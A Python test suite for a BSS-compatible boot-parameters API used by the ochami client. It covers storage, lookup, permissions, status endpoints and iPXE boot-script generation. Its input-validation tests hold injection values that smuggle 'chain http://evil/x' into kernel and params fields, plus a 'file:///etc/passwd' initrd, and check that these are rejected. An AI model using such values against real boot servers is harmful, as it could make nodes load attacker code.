"""The BSS face (/openchami/boot/v1) as ochami uses it: its exact requests, its reading of the answers.

ochami sends BootParams bodies with no Content-Type and always with a `"cloud-init"` block of nulls, its
User-Agent, and a bearer token for /bootparameters (none for /bootscript and /service).  What it stores
must be what the native API and the boot path see: the same rows, written through the same path.
"""

import asyncio
import contextlib
import json
import time
import urllib.parse

import asyncpg
import httpx
import pytest

from admin_api import bootpath
from core.config import load_config
from hotpath.app import PREVIEW_HEADER
from tests.helpers.api import create, problem_of
from tests.helpers.keys import SECRETS
from tests.helpers.polling import wait_until
from tests.helpers.ports import free_port
from tests.helpers.tokens import token_for

AGENT = "ochami/0.5.0"
BSS = "/openchami/boot/v1"
NODES = [("x1000c1s7b0n0", 1, "de:ad:be:ee:ee:f1"), ("x1000c1s7b1n0", 2, "de:ad:be:ee:ee:f2")]
KERNEL, INITRD = "http://172.16.0.254/boot/vmlinuz", "http://172.16.0.254/boot/initrd.img"
CMDLINE = "console=ttyS0,115200 quiet"
NODE_C, MAC_C = "x1000c1s7b2n0", "de:ad:be:ee:ee:f3"
CLOUD_INIT = {"meta-data": None, "user-data": None,
              "phone-home": {"pub_key_dsa": "", "pub_key_rsa": "", "pub_key_ecdsa": "", "instance_id": "",
                             "hostname": "", "fqdn": ""}}


def boot_params(hosts=(), macs=(), nids=(), params="", kernel="", initrd="", cloud_init=None):
    """bssTypes.BootParams as Go marshals it: empty fields left out, cloud-init always there."""
    body = {name: value for name, value in (("hosts", list(hosts)), ("macs", list(macs)), ("nids", list(nids)),
                                            ("params", params), ("kernel", kernel), ("initrd", initrd)) if value}
    body["cloud-init"] = cloud_init or CLOUD_INIT
    return body


class Ochami:
    """Requests as ochami builds them: no Content-Type, its User-Agent, sorted form-encoded queries."""

    def __init__(self, app, token: str | None) -> None:
        self.token = token
        self.client = httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://admin")

    async def send(self, method: str, path: str, body=None, *, query=None, token: bool = True) -> httpx.Response:
        url = BSS + path
        if query:
            url += "?" + urllib.parse.urlencode(sorted(query), doseq=True)
        headers = {"User-Agent": AGENT}
        if token and self.token:
            headers["Authorization"] = f"Bearer {self.token}"
        content = json.dumps(body, separators=(",", ":")).encode() if body is not None else None
        response = await self.client.request(method, url, content=content, headers=headers)
        assert "content-type" not in response.request.headers
        return response

    async def aclose(self) -> None:
        await self.client.aclose()


@contextlib.asynccontextmanager
async def ochami_for(app, anonymous, dsn, name="ochami-admin", roles=("admin",)):
    client = Ochami(app, await token_for(anonymous, dsn, name, list(roles)))
    try:
        yield client
    finally:
        await client.aclose()


@pytest.fixture
async def ochami(admin_app, anonymous, dsn):
    async with ochami_for(admin_app, anonymous, dsn) as client:
        yield client


@contextlib.asynccontextmanager
async def admin_with(dsn, **env):
    """The admin API in-process with extra settings (where the boot path is)."""
    from admin_api.app import create_app

    app = create_app(load_config({"CHAMICORE_DATABASE_URL": dsn, **SECRETS, **env}))
    async with app.router.lifespan_context(app), \
            httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://admin") as anonymous:
        yield app, anonymous


async def add_nodes(api):
    for component_id, nid, mac in NODES:
        await create(api, "/hsm/v2/State/Components", {"metadata": {"id": component_id}, "spec": {
            "type": "Node", "role": "Compute", "state": "Ready", "nid": nid, "networkInterfaces": [{"macAddr": mac}]}})


async def counts(conn):
    return (await conn.fetchval("SELECT count(*) FROM bss.boot_params"),
            await conn.fetchval("SELECT count(*) FROM events.outbox WHERE type LIKE 'chamicore.bss.%'"))


def no_body(response, status):
    assert response.status_code == status, response.text
    assert response.content == b""


async def test_set_then_get_as_the_quick_start_does(api, ochami, conn):
    await add_nodes(api)
    a, b = NODES[0][0], NODES[1][0]
    no_body(await ochami.send("PUT", "/bootparameters", boot_params([a, b], params=CMDLINE, kernel=KERNEL,
                                                                      initrd=INITRD)), 200)
    got = await ochami.send("GET", "/bootparameters", query=[("name", a)])
    assert got.status_code == 200 and got.headers["content-type"] == "application/json"
    assert got.json() == [{"hosts": [a], "params": CMDLINE, "kernel": KERNEL, "initrd": INITRD,
                           "cloud-init": CLOUD_INIT}]
    # Identical values grouped into one entry (BSS on Postgres), whether asked for both or for everything.
    both = {"hosts": [a, b], "params": CMDLINE, "kernel": KERNEL, "initrd": INITRD, "cloud-init": CLOUD_INIT}
    assert (await ochami.send("GET", "/bootparameters", query=[("name", a), ("name", b)])).json() == [both]
    assert (await ochami.send("GET", "/bootparameters", query=[("name", f"{a},{b}")])).json() == [both]
    assert (await ochami.send("GET", "/bootparameters")).json() == [both]
    # The legacy form: the names in a GET body.
    legacy = await ochami.send("GET", "/bootparameters", {"hosts": [b]})
    assert legacy.json() == [{**both, "hosts": [b]}]
    # Stored as the native API stores it: one component-scoped entry each, with its created event.
    native = (await api.get(f"/boot/v1/bootparams?componentId={a}")).json()["items"]
    assert [item["spec"] for item in native] == [{"mac": None, "componentId": a, "nid": None, "group": None,
                                                  "role": None,
                                                  "kernel": KERNEL, "initrd": INITRD, "cmdline": CMDLINE}]
    assert await counts(conn) == (2, 2)
    # Setting again replaces in place: same entries, updated.
    no_body(await ochami.send("PUT", "/bootparameters", boot_params([a], kernel=KERNEL)), 200)
    again = (await api.get(f"/boot/v1/bootparams?componentId={a}")).json()["items"]
    assert again[0]["metadata"]["id"] == native[0]["metadata"]["id"]
    assert again[0]["spec"]["initrd"] == "" and again[0]["spec"]["cmdline"] == ""
    assert await conn.fetchval("SELECT count(*) FROM events.outbox WHERE type = 'chamicore.bss.bootparams.updated'"
                               ) == 1


async def test_add_update_delete_by_mac(api, ochami, conn):
    mac = "DE:AD:BE:EE:EE:F9"
    no_body(await ochami.send("POST", "/bootparameters", boot_params(macs=[mac], kernel=KERNEL, params="quiet")), 201)
    assert await conn.fetchval("SELECT mac FROM bss.boot_params") == "de:ad:be:ee:ee:f9"  # stored normalised
    problem = problem_of(await ochami.send("POST", "/bootparameters", boot_params(macs=[mac], kernel=KERNEL)), 400)
    assert problem["detail"] == f"Bad Request: Already exists: {mac.lower()}"
    assert problem["title"] == "Bad Request"

    no_body(await ochami.send("PATCH", "/bootparameters", boot_params(macs=[mac], initrd=INITRD)), 200)
    got = await ochami.send("GET", "/bootparameters", query=[("mac", mac)])
    assert got.json() == [{"macs": ["de:ad:be:ee:ee:f9"], "params": "quiet", "kernel": KERNEL, "initrd": INITRD,
                           "cloud-init": CLOUD_INIT}]
    # A PATCH naming one missing entry changes none.
    missing = problem_of(await ochami.send("PATCH", "/bootparameters",
                                           boot_params(macs=[mac, "de:ad:be:ee:ee:fa"], params="changed")), 404)
    assert missing["detail"].startswith("Not Found: ") and "de:ad:be:ee:ee:fa" in missing["detail"]
    assert await conn.fetchval("SELECT cmdline FROM bss.boot_params") == "quiet"

    # `ochami bss boot params delete --mac M --kernel K`: the MAC names what goes.
    no_body(await ochami.send("DELETE", "/bootparameters", boot_params(macs=[mac], kernel=KERNEL)), 200)
    gone = problem_of(await ochami.send("GET", "/bootparameters", query=[("mac", mac)]), 404)
    assert gone["detail"] == "Cannot find boot parameters for requested MACs"
    assert await conn.fetchval("SELECT count(*) FROM events.outbox WHERE type = 'chamicore.bss.bootparams.deleted'"
                               ) == 1
    problem_of(await ochami.send("DELETE", "/bootparameters", boot_params(macs=[mac])), 400)
    assert (await ochami.send("GET", "/bootparameters")).json() == []


async def test_nids_are_a_scope_of_their_own(api, ochami, conn):
    await add_nodes(api)
    no_body(await ochami.send("PUT", "/bootparameters", boot_params(nids=[2], kernel=KERNEL)), 200)
    # Kept by number, not resolved to the component holding it now.
    assert tuple(await conn.fetchrow("SELECT component_id, nid FROM bss.boot_params")) == (None, 2)
    by_nid = (await ochami.send("GET", "/bootparameters", query=[("nid", "2")])).json()
    assert by_nid == [{"nids": [2], "kernel": KERNEL, "cloud-init": CLOUD_INIT}]
    problem_of(await ochami.send("GET", "/bootparameters", query=[("name", NODES[1][0])]), 404)
    native = (await api.get("/boot/v1/bootparams?nid=2")).json()["items"]
    assert [item["spec"]["nid"] for item in native] == [2] and native[0]["spec"]["componentId"] is None
    assert (await api.get("/boot/v1/bootparams?nid=1")).json()["items"] == []
    # A NID nobody holds yet may be given parameters; identical values are listed together.
    no_body(await ochami.send("PUT", "/bootparameters", boot_params(hosts=[NODES[0][0]], nids=[99],
                                                                    kernel=KERNEL)), 200)
    assert (await ochami.send("GET", "/bootparameters")).json() == [
        {"hosts": [NODES[0][0]], "nids": [2, 99], "kernel": KERNEL, "cloud-init": CLOUD_INIT}]
    assert (await ochami.send("GET", "/bootparameters", query=[("nid", "2,99")])).json() == [
        {"nids": [2, 99], "kernel": KERNEL, "cloud-init": CLOUD_INIT}]
    no_body(await ochami.send("PATCH", "/bootparameters", boot_params(nids=[99], params="quiet")), 200)
    assert await conn.fetchval("SELECT cmdline FROM bss.boot_params WHERE nid = 99") == "quiet"
    no_body(await ochami.send("POST", "/bootparameters", boot_params(nids=[0], kernel=KERNEL)), 201)
    assert problem_of(await ochami.send("POST", "/bootparameters", boot_params(nids=[0], kernel=KERNEL)), 400)[
        "detail"] == "Bad Request: Already exists: 0"
    before = await counts(conn)
    negative = problem_of(await ochami.send("PUT", "/bootparameters", boot_params(nids=[3, -1], kernel=KERNEL)), 400)
    assert negative["detail"] == "Bad Request: invalid NID -1: a NID is a whole number, 0 or more"
    assert await counts(conn) == before
    assert problem_of(await ochami.send("GET", "/bootparameters", query=[("nid", "two")]), 400)["detail"] == \
        "Bad Request - Invalid nid 'two'"
    nothing = problem_of(await ochami.send("GET", "/bootparameters", query=[("name", "x9c0s0b0n0"), ("nid", "7")]),
                         404)
    assert nothing["detail"] == "Cannot find boot parameters for requested Hosts or NIDs"
    no_body(await ochami.send("DELETE", "/bootparameters", boot_params(nids=[2, 0])), 200)
    assert {tuple(r) for r in await conn.fetch("SELECT component_id, nid FROM bss.boot_params")} == {
        (NODES[0][0], None), (None, 99)}
    problem_of(await ochami.send("DELETE", "/bootparameters", boot_params(nids=[2])), 400)


async def test_default_and_roles_are_hosts_and_groups_are_not_shown(api, ochami, conn):
    await add_nodes(api)
    await create(api, "/hsm/v2/groups", {"spec": {"name": "io", "members": [NODES[0][0]]}})
    await create(api, "/boot/v1/bootparams", {"spec": {"group": "io", "kernel": "http://compute/k"}})
    no_body(await ochami.send("POST", "/bootparameters", boot_params(["Default"], kernel="http://site/k")), 201)
    no_body(await ochami.send("PUT", "/bootparameters", boot_params(["Compute"], kernel="http://compute/k")), 200)
    rows = await conn.fetch("SELECT role, group_name, kernel FROM bss.boot_params")
    assert {(r["role"], r["kernel"]) for r in rows if r["group_name"] is None} == {
        ("Compute", "http://compute/k"), (None, "http://site/k")}
    listing = (await ochami.send("GET", "/bootparameters")).json()
    assert listing == [{"hosts": ["Default"], "kernel": "http://site/k", "cloud-init": CLOUD_INIT},
                       {"hosts": ["Compute"], "kernel": "http://compute/k", "cloud-init": CLOUD_INIT}]
    # A host's own entry only: the role and site entries are not expanded into every node.
    problem_of(await ochami.send("GET", "/bootparameters", query=[("name", NODES[0][0])]), 404)
    assert (await ochami.send("GET", "/bootparameters", query=[("name", "Default")])).json()[0]["kernel"] == \
        "http://site/k"
    # Deleting by values takes the BSS-visible entries that have them, never the group's.
    no_body(await ochami.send("DELETE", "/bootparameters", {"kernel": "http://compute/k"}), 200)
    assert {tuple(r) for r in await conn.fetch("SELECT group_name, kernel FROM bss.boot_params")} == {
        (None, "http://site/k"), ("io", "http://compute/k")}


async def test_entries_set_natively_are_the_faces_and_the_other_way(api, ochami):
    await add_nodes(api)
    a = NODES[0][0]
    created = await create(api, "/boot/v1/bootparams", {"spec": {"componentId": a, "kernel": KERNEL,
                                                                 "cmdline": "nid={{nid}}"}})
    assert (await ochami.send("GET", "/bootparameters", query=[("name", a)])).json() == [
        {"hosts": [a], "params": "nid={{nid}}", "kernel": KERNEL, "cloud-init": CLOUD_INIT}]
    no_body(await ochami.send("PATCH", "/bootparameters", boot_params([a], params="quiet")), 200)
    native = (await api.get(f"/boot/v1/bootparams/{created['metadata']['id']}")).json()
    assert native["spec"]["cmdline"] == "quiet" and native["spec"]["kernel"] == KERNEL
    assert native["metadata"]["etag"] != created["metadata"]["etag"]
    # An xname in another spelling names the same component (SMD normalises xnames).
    no_body(await ochami.send("PUT", "/bootparameters", boot_params(["X1000C01S7B0N0"], kernel=INITRD)), 200)
    assert (await api.get(f"/boot/v1/bootparams/{created['metadata']['id']}")).json()["spec"]["kernel"] == INITRD


@pytest.mark.parametrize(("body", "fragment"), [
    (boot_params(macs=["de-ad-be-ee-ee-f1"], kernel=KERNEL), "invalid MAC address format: de-ad-be-ee-ee-f1"),
    (boot_params(macs=["de:ad:be:ee:ee"], kernel=KERNEL), "invalid MAC address format"),
    (boot_params(["x1000c1s7b0n0"], kernel="http://k/vmlinuz\nchain http://evil/x"), "kernel: must not contain"),
    (boot_params(["x1000c1s7b0n0"], kernel="http://k/vmlinuz || chain"), "kernel: must not contain spaces"),
    (boot_params(["x1000c1s7b0n0"], kernel=KERNEL, params="quiet || chain http://evil/x"),
     "params: must not contain the word '||'"),
    (boot_params(["x1000c1s7b0n0"], kernel="ftp://k/vmlinuz"), "kernel: expected an http, https, tftp URL"),
    (boot_params(["x1000c1s7b0n0"], kernel=KERNEL, initrd="file:///etc/passwd"), "initrd: expected"),
    (boot_params(["x1000c1s7b0n0"], params="quiet"), "kernel: is required"),
    (boot_params(["x1000c1s7b0n0", "x9c0s0b0n0"], kernel=KERNEL), "hosts: no component 'x9c0s0b0n0'"),
    (boot_params(["x1000c1s7b0n0"], kernel="http://k/" + "v" * 3000), "kernel: Expected `str` of length <= 2048"),
    (boot_params(["x1000c1s7b0n0"], kernel=KERNEL, cloud_init={"user-data": {"packages": ["htop"]}}),
     "cloud-init API"),
    ({"hosts": "x1000c1s7b0n0", "kernel": KERNEL}, "hosts must be a list of strings"),
    ({"nids": ["1"], "kernel": KERNEL}, "nids must be a list of whole numbers"),
    (boot_params(kernel=KERNEL), "Nothing to Store"),
])
@pytest.mark.parametrize("method", ["PUT", "POST"])
async def test_bad_input_is_a_400_and_changes_nothing(api, ochami, conn, method, body, fragment):
    await add_nodes(api)
    before = await counts(conn)
    problem = problem_of(await ochami.send(method, "/bootparameters", body), 400)
    assert problem["detail"].startswith("Bad Request") and fragment in problem["detail"], problem
    assert await counts(conn) == before


async def test_bad_patch_changes_nothing(api, ochami, conn):
    await add_nodes(api)
    no_body(await ochami.send("PUT", "/bootparameters", boot_params([n for n, _, _ in NODES], kernel=KERNEL)), 200)
    before = await conn.fetch("SELECT id, kernel, cmdline, updated_at FROM bss.boot_params ORDER BY id")
    problem = problem_of(await ochami.send("PATCH", "/bootparameters", boot_params(
        [n for n, _, _ in NODES], params="console=ttyS0 ; chain http://evil/x")), 400)
    assert "params: must not contain the word ';'" in problem["detail"]
    assert await conn.fetch("SELECT id, kernel, cmdline, updated_at FROM bss.boot_params ORDER BY id") == before


async def test_a_viewer_reads_but_cannot_write(admin_app, anonymous, api, dsn):
    await add_nodes(api)
    async with ochami_for(admin_app, anonymous, dsn, "ochami-viewer", ["viewer"]) as viewer:
        for method in ("POST", "PUT", "PATCH", "DELETE"):
            problem_of(await viewer.send(method, "/bootparameters", boot_params([NODES[0][0]], kernel=KERNEL)), 403)
        assert (await viewer.send("GET", "/bootparameters")).json() == []
        problem_of(await viewer.send("GET", "/bootparameters", token=False), 401)


async def test_service_status_needs_no_token(admin_app, ochami):
    version = (await ochami.send("GET", "/service/version", token=False)).json()["bss-version"]
    assert version
    for path, expected in [
        ("/service/status", {"bss-status": "running"}),
        ("/service/status/all", {"bss-version": version, "bss-status": "running", "bss-status-hsm": "connected",
                                 "bss-storage-backend": {"name": "postgres", "status": "connected"}}),
        ("/service/storage/status", {"bss-storage-backend": {"name": "postgres", "status": "connected"}}),
        ("/service/hsm", {"bss-status-hsm": "connected"}),
    ]:
        answer = await ochami.send("GET", path, token=False)
        assert answer.status_code == 200 and answer.json() == expected, path

    # A database that does not answer: 500 with "error" where BSS puts it.
    pool = admin_app.state.pool
    admin_app.state.pool = dead = await asyncpg.create_pool(f"postgresql://127.0.0.1:{free_port()}/none", min_size=0)
    try:
        everything = await ochami.send("GET", "/service/status/all", token=False)
        assert everything.status_code == 500
        assert everything.json()["bss-storage-backend"] == {"name": "postgres", "status": "error"}
        assert everything.json()["bss-status-hsm"] == "error"
        assert (await ochami.send("GET", "/service/storage/status", token=False)).status_code == 500
        assert (await ochami.send("GET", "/service/hsm", token=False)).json() == {"bss-status-hsm": "error"}
        assert (await ochami.send("GET", "/service/status", token=False)).json() == {"bss-status": "running"}
    finally:
        admin_app.state.pool = pool
        await dead.close()


def test_the_preview_header_is_the_boot_paths():
    assert bootpath.PREVIEW_HEADER.lower() == PREVIEW_HEADER


async def test_bootscript_through_the_admin_origin_is_the_boot_paths(boot_server, dsn):
    boot = boot_server(CHAMICORE_TELEMETRY_NODE_INTERVAL_S="0")
    async with admin_with(dsn, CHAMICORE_BOOT_URL=boot.url) as (app, anonymous):
        async with ochami_for(app, anonymous, dsn) as ochami:
            api = httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://admin",
                                    headers={"Authorization": f"Bearer {ochami.token}"})
            async with api:
                await add_nodes(api)
                await create(api, "/hsm/v2/State/Components", {"metadata": {"id": NODE_C}, "spec": {
                    "type": "Node", "state": "Ready", "networkInterfaces": [{"macAddr": MAC_C}]}})
            (a, _, mac_a), (b, _, mac_b) = NODES
            no_body(await ochami.send("PUT", "/bootparameters", boot_params(
                [a, b, NODE_C], params=CMDLINE, kernel=KERNEL, initrd=INITRD)), 200)
            # The face's write reaches the boot path through the change feed, as a native write does.
            direct = wait_until(lambda: (got := boot.get(f"/boot/v1/bootscript?mac={urllib.parse.quote(mac_a)}"))
                                and b"/boot/vmlinuz" in got[2] and got, timeout=5)
            assert direct[2].startswith(b"#!ipxe") and CMDLINE.encode() in direct[2]

            # `ochami bss boot script get --mac M --timestamp T`: no token, timestamp accepted (BSS ignores it).
            via_admin = await ochami.send("GET", "/bootscript", token=False,
                                          query=[("mac", mac_a), ("timestamp", "1700000000")])
            assert via_admin.status_code == 200 and via_admin.content == direct[2]
            assert via_admin.headers["content-type"] == {k.lower(): v for k, v in direct[1].items()}["content-type"]
            by_name = await ochami.send("GET", "/bootscript", token=False, query=[("name", a), ("retry", "2")])
            assert by_name.content == boot.get(f"/boot/v1/bootscript?name={a}&retry=2")[2]
            unknown = await ochami.send("GET", "/bootscript", token=False, query=[("mac", "02:00:00:00:00:01")])
            assert unknown.status_code == 200 and unknown.content == \
                boot.get("/boot/v1/bootscript?mac=02:00:00:00:00:01")[2]
            bad = await ochami.send("GET", "/bootscript", token=False, query=[("mac", "nonsense")])
            assert bad.status_code == 400 and bad.headers["content-type"] == "application/problem+json"
            problem = problem_of(await ochami.send("GET", "/bootscript", token=False, query=[("arch", "x86_64")]),
                                 400)
            assert problem["detail"] == "Need a mac=, name=, or nid= parameter"

            # ochami's requests are previews; a node's own (any other agent) counts as it booting.  Node C is
            # asked for only by ochami, node B only by a node's agent, both through the admin origin.
            c = await eventually(lambda: preview_of(ochami, MAC_C))
            assert c.startswith(b"#!ipxe") and b"BOOTIF=01-de-ad-be-ee-ee-f3" in c  # the known node's answer
            for _ in range(3):
                assert await preview_of(ochami, MAC_C) == c
            plain = await ochami.client.get(f"{BSS}/bootscript", params={"mac": mac_b},
                                            headers={"User-Agent": "iPXE/1.21.1"})
            assert plain.status_code == 200 and b"/boot/vmlinuz" in plain.content
            conn = await asyncpg.connect(dsn)
            try:
                seen = await eventually(lambda: conn.fetchval(
                    "SELECT requests FROM bss.boot_telemetry WHERE component_id = $1", b))
                assert seen == 1
                # C's previews came before B's request: counted, they would have been written with it or before.
                assert await conn.fetchval("SELECT count(*) FROM bss.boot_telemetry WHERE component_id = $1",
                                           NODE_C) == 0
            finally:
                await conn.close()


async def test_a_nid_nobody_holds_yet_applies_once_a_node_gets_it(boot_server, dsn):
    boot = boot_server()
    async with admin_with(dsn, CHAMICORE_BOOT_URL=boot.url) as (app, anonymous):
        async with ochami_for(app, anonymous, dsn) as ochami:
            no_body(await ochami.send("PUT", "/bootparameters", boot_params(nids=[7], params=CMDLINE,
                                                                            kernel=KERNEL)), 200)
            api = httpx.AsyncClient(transport=httpx.ASGITransport(app=app), base_url="http://admin",
                                    headers={"Authorization": f"Bearer {ochami.token}"})
            async with api:
                await create(api, "/hsm/v2/State/Components", {"metadata": {"id": NODE_C}, "spec": {
                    "type": "Node", "state": "Ready", "nid": 7, "networkInterfaces": [{"macAddr": MAC_C}]}})
            script = await eventually(lambda: preview_of(ochami, MAC_C))
            assert script.startswith(b"#!ipxe") and KERNEL.encode() in script and CMDLINE.encode() in script
            by_nid = await ochami.send("GET", "/bootscript", token=False, query=[("nid", "7")])
            assert by_nid.status_code == 200 and KERNEL.encode() in by_nid.content


async def test_bootscript_when_the_boot_path_is_down(dsn):
    port = free_port()
    async with admin_with(dsn, CHAMICORE_BOOT_URL=f"http://127.0.0.1:{port}") as (app, _):
        async with Ochami(app, None).client as client:
            answer = await client.get(f"{BSS}/bootscript", params={"mac": NODES[0][2]}, headers={"User-Agent": AGENT})
    problem = problem_of(answer, 503)
    assert f"http://127.0.0.1:{port}" in problem["detail"] and "CHAMICORE_BOOT_URL" in problem["detail"]


async def preview_of(ochami, mac):
    """`ochami bss boot script get --mac`, through the admin origin: the body once the node's answer is ready."""
    answer = await ochami.send("GET", "/bootscript", token=False, query=[("mac", mac)])
    assert answer.status_code == 200, answer.text
    return answer.content if b"/boot/vmlinuz" in answer.content else None


async def eventually(read, timeout: float = 5.0):
    """Poll an async read until it returns something truthy (what another process will write)."""
    deadline = time.monotonic() + timeout
    while not (value := await read()):
        assert time.monotonic() < deadline, "not written in time"
        await asyncio.sleep(0.02)
    return value
